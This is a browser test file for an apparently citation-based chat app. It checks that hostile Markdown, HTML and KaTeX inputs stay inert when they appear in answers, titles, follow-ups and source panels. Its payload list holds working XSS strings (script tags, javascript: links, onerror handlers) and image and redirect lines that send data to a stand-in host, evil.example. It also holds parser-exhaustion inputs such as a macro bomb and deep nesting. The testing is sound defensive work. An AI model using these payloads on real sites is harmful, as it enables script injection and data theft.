import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import {
  answered,
  ask,
  describeInBrowser,
  drawn,
  expectNoSidewaysScroll,
  launchBrowser,
  openPage,
  type WatchedPage,
} from './harness.ts';
import { startScriptedApi, type ScriptedApi } from './scripted-api.ts';
import { partsOf } from './scripted-answers.ts';
import { ENTRIES, cite } from './scripted-corpus.ts';

/** Each sets `window.harm` or calls another origin if it is executed, or hangs if it is parsed without bounds. */
const PAYLOADS: readonly (readonly [name: string, payload: string])[] = [
  ['script', '<script>window.harm = 1</script>'],
  ['script across lines', '<script>\nwindow.harm = 1\n</script>'],
  ['iframe', '<iframe src="https://evil.example/" srcdoc="<script>parent.harm=1</script>"></iframe>'],
  ['svg', '<svg onload="window.harm=1"><script>window.harm=1</script></svg>'],
  ['image handler', '<img src=x onerror="window.harm=1">'],
  ['javascript: link', '[click me](javascript:window.harm=1)'],
  ['javascript: with tab', '[click me](<java\tscript:window.harm=1>)'],
  ['data: link', '[click me](data:text/html,<script>opener.harm=1</script>)'],
  ['autolink', '<javascript:window.harm=1>'],
  ['remote image', '![secret](https://evil.example/p.png?q=secret)'],
  ['remote reference image', '![secret][r]\n\n[r]: https://evil.example/p.png'],
  ['style', '<style>@import "https://evil.example/x.css"; body { display: none }</style>'],
  ['form', '<form action="https://evil.example"><button>Send</button></form>'],
  ['meta', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['base', '<base href="https://evil.example/">'],
  ['KaTeX href', '$\\href{javascript:window.harm=1}{x}$ and $\\url{javascript:window.harm=1}$'],
  ['KaTeX includegraphics', '$\\includegraphics{https://evil.example/p.png}$'],
  ['KaTeX html', '$\\htmlData{x=1}{y}$ $\\htmlStyle{background:url(https://evil.example)}{y}$'],
  ['KaTeX rule', '$\\rule{100000em}{100000em}$'],
  ['KaTeX macro bomb', '$\\def\\a{\\b\\b\\b}\\def\\b{\\c\\c\\c}\\def\\c{\\d\\d\\d}\\def\\d{\\a\\a\\a}\\a$'],
  ['nested quotes', `${'> '.repeat(3_000)}deep`],
  ['nested lists', `${'- '.repeat(3_000)}deep`],
  ['nested brackets', '['.repeat(7_000)],
  ['emphasis', '*a'.repeat(7_000)],
  ['one long word', 'a'.repeat(14_000)],
  ['ANSI', '\u001B[31mred\u001B[0m \u0007\u0000'],
  ['bidi controls', 'safe \u202E\u2066 txet lasrever \u202D'],
  ['zero width and combining', 'e\u0301\u200B'.repeat(2_000)],
  ['prototype', '`__proto__` constructor [__proto__](https://a.example) 【__proto__】'],
  ['markers from nowhere', 'One.【999】 Two.【0】 Three.【1】'],
];

const QUOTE = 'For data that is heavily skewed (not a bell curve), the Z-score is useless.';

describeInBrowser('hostile text', () => {
  let browser: Browser;
  let api: ScriptedApi;
  let watched: WatchedPage;
  const dialogs: string[] = [];

  beforeAll(async () => {
    browser = await launchBrowser();
    api = await startScriptedApi();
    watched = await openPage(browser, api.url);
    watched.page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
  });
  afterAll(async () => {
    await browser.close();
    await api.close();
  });

  it.each(PAYLOADS)(
    '%s does nothing in answers, titles, follow-ups, reasons and sources',
    async (_name, payload) => {
      const line = payload.replaceAll('\n', ' ');
      const citation = { ...cite(1, QUOTE), title: line };
      api.chat = (_request, question) => ({
        parts: partsOf(question, {
          standalone: line,
          text: `${payload}\n\n${QUOTE}【1】\n\nOf it: ${line}`,
          citations: [citation],
          doubts: [{ sentence: `${QUOTE}【1】`, verdict: 'partial', reasons: [{ rule: line, text: line }] }],
          followUps: [{ question: line, entryId: line, kind: 'related', reason: line }],
          notice: { code: 'x', text: line },
          missing: [line],
        }),
      });
      api.entries = ENTRIES.map((entry) => ({
        ...entry,
        title: line,
        titleText: line,
        sections: entry.sections.map((section) => ({
          ...section,
          markdown: `${payload}\n\n${section.markdown}`,
        })),
      }));
      const { page, context, foreign } = watched;
      await page.goto(api.url);
      await ask(page, payload.slice(0, 2_000));
      await answered(page);
      await page.locator('.answer .cite').first().click();
      await page.locator('.panel .source').waitFor();
      await page.getByRole('button', { name: /^Close source/ }).click();
      await page.getByRole('button', { name: 'Why this answer?' }).click();
      await page.locator('.sentence-verdict').first().waitFor();
      for (const link of await page.getByText('click me').all()) await link.dispatchEvent('click');
      await drawn(page);
      expect(await page.evaluate(() => 'harm' in window)).toBe(false);
      expect(
        await page
          .locator('.answer iframe, .answer script, .answer img, .answer form, .panel img, .panel iframe')
          .count(),
      ).toBe(0);
      await expectNoSidewaysScroll(page);
      expect(foreign).toEqual([]);
      expect(dialogs).toEqual([]);
      expect(context.pages()).toHaveLength(1);
    },
  );
});
